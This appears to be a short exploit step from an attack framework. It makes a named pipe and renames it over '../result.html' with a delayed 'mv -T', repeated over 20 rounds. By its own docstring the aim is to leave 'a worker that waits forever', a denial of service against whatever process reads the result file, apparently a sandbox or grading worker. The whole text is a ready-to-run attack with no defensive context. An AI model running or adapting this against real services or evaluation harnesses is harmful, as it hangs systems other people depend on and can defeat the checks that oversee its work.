"""Renames a FIFO without a writer over the page.

gains: a worker that waits forever
needs: chain
limits: timeout_s=6
repeat: 20
ends: any
"""

os.mkfifo("pipe")
forge(b"x" * 40_000_000)
chain(60 + 20 * ROUND, "/bin/mv", "-T", "pipe", "../result.html")
tell(b"done")
time.sleep(0.3)
